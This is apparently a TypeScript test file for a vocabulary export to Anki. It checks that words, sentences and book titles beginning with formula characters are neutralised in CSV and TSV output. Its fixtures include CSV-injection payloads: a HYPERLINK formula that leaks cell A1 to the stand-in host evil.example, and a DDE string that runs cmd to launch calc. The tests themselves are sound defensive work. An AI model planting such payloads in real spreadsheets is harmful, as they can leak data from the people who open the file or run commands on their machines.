import { describe, expect, it } from 'vitest';
import { exportVocabulary, neutraliseFormula, type ExportWord } from './anki-export.ts';

const word = (over: Partial<ExportWord>): ExportWord => ({
  text: 'whale',
  lemma: '',
  meaning: '鲸',
  pronunciation: '',
  partOfSpeech: '',
  note: '',
  sentence: 'Call me Ishmael.',
  bookTitle: 'Moby-Dick',
  chapterTitle: '',
  ...over,
});

describe('the vocabulary file in a spreadsheet', () => {
  it('never starts a cell with what a spreadsheet runs as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
      expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const plain of ['whale', '鲸', "'quoted", ' =spaced', '1=1']) expect(neutraliseFormula(plain)).toBe(plain);
  });

  it('writes hostile words, sentences and book titles as text in CSV and TSV', () => {
    const words = [
      word({ text: '=HYPERLINK("http://evil.example/?"&A1,"click")', bookTitle: "@SUM(1+1)*cmd|' /C calc'!A0" }),
      word({ text: '+1', sentence: '-2+3', meaning: '=1', bookTitle: '\tTabbed' }),
    ];
    for (const format of ['csv', 'tsv'] as const) {
      const separator = format === 'csv' ? ',' : '\t';
      const rows = exportVocabulary(words, format)
        .split('\r\n')
        .filter((l) => l && !l.startsWith('#'));
      expect(rows).toHaveLength(2);
      for (const row of rows) {
        // Each cell, unquoted, starts with a harmless character.
        const cells = row.match(format === 'csv' ? /("([^"]|"")*"|[^,]*)(,|$)/g : /[^\t]*(\t|$)/g)!;
        for (const cell of cells.map((c) => c.replace(new RegExp(`${separator}$`), '').replace(/^"|"$/g, '')))
          expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }
    }
    const csv = exportVocabulary(words, 'csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain("'+1,");
  });
});
